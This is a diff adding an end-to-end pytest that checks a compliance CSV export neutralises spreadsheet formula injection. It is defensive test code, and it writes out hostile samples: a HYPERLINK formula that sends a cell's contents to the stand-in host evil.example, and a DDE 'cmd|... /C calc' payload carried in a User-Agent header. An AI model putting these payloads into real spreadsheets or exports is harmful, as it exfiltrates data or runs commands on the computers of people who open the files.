@@ -428,6 +428,59 @@ def test_formula_cells_are_neutralised(app, tmp_path, risky):
     assert _verify(app, nd).exit_code == 0
 
 
+HOSTILE_LABEL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+HOSTILE_AGENT = '@SUM(1+1)*cmd|" /C calc"!A0 Firefox/128.0'
+
+
+def test_formulas_typed_in_the_console_or_sent_by_a_browser_are_neutralised(
+    app, engine, tmp_path, subscriptions, officer, admin_browser, catalogue_ready
+):
+    """End to end: a topic label an admin typed, and a user agent a browser sent, reach
+    the downloaded CSV without starting a cell with anything a spreadsheet runs."""
+    from tests.compliance.conftest import subscribe
+
+    edited = admin_browser.post(
+        "/staff/admin/topics/weekly-digest/edit", {"label": HOSTILE_LABEL, "description": ""}
+    )
+    assert edited.status_code == 303
+    someone = subscribe(app, subscriptions, **{"User-Agent": HOSTILE_AGENT})
+    # A source is one of a fixed list: a formula is refused before anything is written.
+    refused = app.test_client().post(
+        "/api/push/preferences",
+        json={
+            "endpoint": someone.sub.endpoint,
+            "decisions": [{"slug": "offers", "state": "opt_in"}],
+            "policyVersion": "v1",
+            "decidedAt": "2026-01-01T00:00:00Z",
+            "source": "=1+1",
+        },
+        headers={"User-Agent": HOSTILE_AGENT},
+    )
+    assert refused.status_code == 422
+    assert refused.json["error"]["field"] == "source"
+
+    response = officer.post("/staff/compliance/export", _form())
+    assert response.status_code == 200
+    path = tmp_path / "export.zip"
+    path.write_bytes(response.get_data())
+    with zipfile.ZipFile(path) as archive:
+        (name,) = [n for n in archive.namelist() if n.endswith(".csv")]
+        raw = archive.read(name).decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
+    assert rows
+    for row in rows:
+        for column, cell in row.items():
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)
+    labels = {r["topic_label"] for r in rows if r["topic_slug"] == "weekly-digest"}
+    assert labels == {"'" + HOSTILE_LABEL}
+    assert restore("'" + HOSTILE_LABEL) == HOSTILE_LABEL
+    # The user agent is kept only as a family inside the context cell, never verbatim.
+    assert HOSTILE_AGENT not in raw and "cmd|" not in raw
+    clients = {json.loads(r["context"]).get("client") for r in rows if r["context"]}
+    assert clients == {"Firefox 128"}
+    assert verify_bundle(path, KEY.public).ok
+
+
 def test_no_secrets_or_endpoints_in_a_bundle(app, tmp_path, person, settings):
     out_csv, out_nd = tmp_path / "c", tmp_path / "n"
     _export(app, out_csv)
